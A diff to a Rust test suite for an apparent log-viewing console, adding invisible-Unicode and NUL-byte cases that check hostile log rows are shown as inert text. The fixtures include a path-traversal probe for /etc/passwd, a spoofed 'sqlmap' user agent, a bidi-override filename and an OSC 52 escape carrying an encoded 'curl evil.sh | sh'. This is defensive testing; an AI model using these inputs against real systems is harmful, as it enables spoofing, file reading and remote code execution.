@@ -32,11 +32,15 @@ const CORPUS: &[&str] = &[
     "evil\u{202E}gnp.exe",     // right-to-left override
     "\u{2066}isolate\u{2069}", // isolates
     "\u{200F}rlm \u{200E}lrm \u{061C}alm",
+    "sql\u{200B}map",                           // zero-width space: reads as "sqlmap"
+    "zero\u{200D}width\u{200C}joiners\u{FEFF}", // joiners and a BOM
+    "ad\u{00AD}min\u{2060}\u{FE0F}",            // soft hyphen, word joiner, variation selector
 ];
 
 fn forbidden(c: char) -> bool {
     c.is_control()
         || matches!(c, '\u{061C}' | '\u{200E}' | '\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}')
+        || matches!(c, '\u{00AD}' | '\u{200B}'..='\u{200D}' | '\u{2060}' | '\u{FE0F}' | '\u{FEFF}')
 }
 
 #[test]
@@ -48,6 +52,7 @@ fn every_payload_comes_out_inert() {
         assert!(cleaned.chars().count() >= payload.chars().filter(|c| !forbidden(*c)).count());
     }
     assert_eq!(clean("\x1b]0;pwned\x07", 100), "^[]0;pwned^G");
+    assert_eq!(clean("sql\u{200B}map", 100), "sql<U+200B>map", "a zero-width space is shown, not swallowed");
 }
 
 #[test]
@@ -82,6 +87,7 @@ fn hostile_rows_draw_as_inert_text_in_lists_and_detail() {
     let screen = h.screen();
     assert!(screen.contains("^[]52;c;Y3VybCBldmlsLnNoIHwgc2g=^G"), "OSC 52 shown as text:\n{screen}");
     assert!(screen.contains("evil<U+202E>gnp.exe"), "bidi override named:\n{screen}");
+    assert!(screen.contains("sql<U+200B>map"), "zero-width space named, so it does not read as sqlmap:\n{screen}");
     assert!(screen.contains("acme^[[3"), "tenant names are cleaned too (and cut to the column):\n{screen}");
     // The megabyte user agent is the newest row: open its detail, scroll to the end.
     h.press("enter");
@@ -91,5 +97,45 @@ fn hostile_rows_draw_as_inert_text_in_lists_and_detail() {
     for i in 0..CORPUS.len() {
         h.press("esc j enter");
         check(&mut h, &format!("detail of payload {i}"));
+    }
+}
+
+#[test]
+fn a_nul_byte_hides_nothing_in_the_console_list_detail_or_filter() {
+    let mut h = Harness::empty(160, 48);
+    for (i, (path, agent)) in
+        [("/ok", "curl/8"), ("/c\0/../../etc/passwd", "Mozilla/5.0\0 sqlmap/1.7"), ("/fine", "curl/8")]
+            .iter()
+            .enumerate()
+    {
+        let e = AccessEvent {
+            ts: support::NOW + i as i64,
+            tenant: "acme".into(),
+            src_ip: format!("203.0.113.{}", i + 1),
+            method: "GET".into(),
+            path: path.to_string(),
+            status: 200,
+            user_agent: agent.to_string(),
+            source: "test".into(),
+            ..Default::default()
+        };
+        access::insert(&h.fx.writer, &e).unwrap();
+    }
+    h.send(Msg::StoreChanged(Tables::ALL));
+    h.press("3 z");
+    let screen = h.screen();
+    assert!(screen.contains("/c^@/../../etc/passwd"), "the whole path, its NUL shown:\n{screen}");
+    assert!(screen.contains("Mozilla/5.0^@ sqlmap/1.7"), "the whole user agent:\n{screen}");
+    h.press("j enter");
+    let screen = h.screen();
+    assert!(screen.contains("path  /c^@/../../etc/passwd"), "detail:\n{screen}");
+    assert!(screen.contains("user agent  Mozilla/5.0^@ sqlmap/1.7"), "detail:\n{screen}");
+    for filter in ["sqlmap", "path:*passwd*"] {
+        h.press("esc esc /");
+        h.type_text(filter);
+        h.press("enter");
+        let screen = h.screen();
+        let shown = |ip: &str| screen.contains(&format!("{ip} "));
+        assert!(shown("203.0.113.2") && !shown("203.0.113.1") && !shown("203.0.113.3"), "{filter}:\n{screen}");
     }
 }
